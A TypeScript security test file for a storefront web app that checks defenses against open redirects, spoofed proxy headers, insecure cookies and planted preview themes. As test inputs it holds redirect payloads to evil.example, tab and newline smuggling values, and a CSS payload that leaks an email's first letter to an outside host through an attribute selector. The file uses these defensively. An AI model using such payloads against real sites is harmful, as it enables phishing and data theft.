// What an attacker tries against the storefront from outside: redirects to another site, and
// (below) the headers every answer carries.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Browser } from "playwright-core";
import { encodePreviewTheme } from "../domain/preview-theme";
import { at, getWithHost, launch, newPage, PHONE } from "./browser";

let browser: Browser;
beforeAll(async () => {
  browser = await launch();
});
afterAll(() => browser?.close());

const post = (path: string, form: Record<string, string>) =>
  fetch(at(path), { method: "POST", redirect: "manual", body: new URLSearchParams(form), headers: { origin: new URL(at("/")).origin } });

describe("a redirect never leaves the site", () => {
  it("a language the business does not offer, with a second slash, stays on the business", async () => {
    const response = await getWithHost(at("/de//evil.example/phish"), `solo.localhost:${new URL(at("/")).port}`);
    expect(response.status).toBe(302);
    const location = String(response.headers.location);
    expect(location.startsWith("/")).toBe(true);
    expect(location.startsWith("//")).toBe(false);
    expect(new URL(location, "http://solo.localhost").host).toBe("solo.localhost");
  });

  it("a return address on another site is replaced by the profile", async () => {
    for (const target of ["//evil.example", "https://evil.example/", "/%2F%2Fevil.example"]) {
      const html = await (await fetch(at(`/auth/login?redirectTo=${encodeURIComponent(target)}`))).text();
      const kept = /name="redirectTo"[^>]*value="([^"]*)"|value="([^"]*)"[^>]*name="redirectTo"/.exec(html);
      const path = kept?.[1] ?? kept?.[2];
      expect(path, target).toBeDefined();
      expect(new URL(path!, at("/")).origin).toBe(new URL(at("/")).origin);
    }
  });

  it("a tab or a new line in the return address is refused with 400, not followed and not a 500", async () => {
    expect((await fetch(at("/auth/login?redirectTo=%2F%09%2Fevil.example"), { redirect: "manual" })).status).toBe(400);
    for (const redirectTo of ["/\t/evil.example", "/\n/evil.example", "/\\evil.example"]) {
      const response = await post("/auth/login", { redirectTo, email: "nobody@example.com", password: "wrong password" });
      expect(response.status, JSON.stringify(redirectTo)).toBe(400);
      expect(response.headers.get("location")).toBeNull();
    }
  });
});

describe("proxy headers without TRUST_PROXY", () => {
  it("X-Forwarded-Host does not choose the business: the Host's is rendered", async () => {
    const port = new URL(at("/")).port;
    const response = await getWithHost(at("/"), `localhost:${port}`, { "x-forwarded-host": `solo.localhost:${port}`, "x-forwarded-proto": "https" });
    expect(response.status).toBe(200);
    expect(response.body).toContain("Maison Lumière Spa");
    expect(response.body).not.toContain("L'Atelier de Clara");
    expect(response.headers["strict-transport-security"]).toBeUndefined();
  });

  it("cookies are Secure because PUBLIC_URL is https, over plain http too", async () => {
    const response = await fetch(at("/"), { redirect: "manual", headers: { cookie: `auth=${"x".repeat(43)}` } });
    const cleared = response.headers.getSetCookie().find((c) => c.startsWith("auth="));
    expect(cleared).toMatch(/; Secure$/);
  });
});

describe("a preview theme nobody else can plant", () => {
  it("an unsigned theme in a link renders the saved theme, loads no outside stylesheet and sets no cookie", async () => {
    const planted = encodePreviewTheme({ colors: { primary: "#aa0000" }, customCss: "input[name=email][value^=a]{background:url(https://evil.example/leak?e=a)}", fonts: { title: { name: "Evil", url: "https://evil.example/evil.css" } } });
    const response = await fetch(at(`/-ps--${planted}--pe-/legal`));
    expect(response.status).toBe(200);
    expect(response.headers.getSetCookie().some((c) => c.startsWith("previewtheme="))).toBe(false);
    const html = await response.text();
    expect(html).not.toContain("evil.example");

    const { context, page } = await newPage(browser, PHONE);
    await page.goto(at(`/-ps--${planted}--pe-/legal`));
    expect(new URL(page.url()).pathname).toBe("/legal");
    expect(await page.locator("h1").evaluate((el) => getComputedStyle(el).color)).toBe("rgb(26, 27, 27)");
    expect((await context.cookies()).find((c) => c.name === "previewtheme")).toBeUndefined();
    await context.close();
  });
});
